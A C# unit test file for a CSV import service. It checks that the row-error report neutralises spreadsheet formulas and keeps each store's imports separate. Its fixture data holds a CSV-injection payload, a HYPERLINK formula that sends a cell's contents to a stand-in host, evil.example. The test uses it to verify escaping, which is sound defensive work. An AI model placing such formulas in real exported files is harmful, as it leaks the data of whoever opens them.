using System.Text;
using FunnelInsight.Core.Import;
using FunnelInsight.Core.Storage.Entities;
using FunnelInsight.Tests.Support;

namespace FunnelInsight.Tests.Core.Import;

public sealed class RowErrorFileTests
{
    private const string Events = """
        event_time,event_type,session_id
        2024-03-01T10:00:00Z,session_start,s1
        =HYPERLINK("http://evil.example/?leak="&A1),add_to_cart,s1
        2024-03-01T11:00:00Z,session_start,s2
        """;

    [Fact]
    public async Task The_error_file_lists_each_bad_row_with_a_formula_in_the_imported_data_neutralised()
    {
        await using var db = await TempDatabase.CreateAsync();
        var store = await db.Stores.GetOrCreateAsync("Alpha");
        var import = await new ImportService(db.Database).ImportAsync(new ImportRequest(store.Id, ImportKind.Events, db.WriteFile("events.csv", Events)));
        using var output = new MemoryStream();

        Assert.True(await new RowErrorFile(db.Database).WriteCsvAsync(store.Id, import.ImportId, output));

        var lines = Encoding.UTF8.GetString(output.ToArray()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("line,column,reason,row", lines[0]);
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("3,event_time,", lines[1], StringComparison.Ordinal);
        Assert.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1),add_to_cart,s1\"", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_import_of_another_store_is_unknown_and_nothing_is_written()
    {
        await using var db = await TempDatabase.CreateAsync();
        var alpha = await db.Stores.GetOrCreateAsync("Alpha");
        var bravo = await db.Stores.GetOrCreateAsync("Bravo");
        var import = await new ImportService(db.Database).ImportAsync(new ImportRequest(bravo.Id, ImportKind.Events, db.WriteFile("events.csv", Events)));
        using var output = new MemoryStream();

        Assert.False(await new RowErrorFile(db.Database).WriteCsvAsync(alpha.Id, import.ImportId, output));
        Assert.Equal(0, output.Length);
    }
}
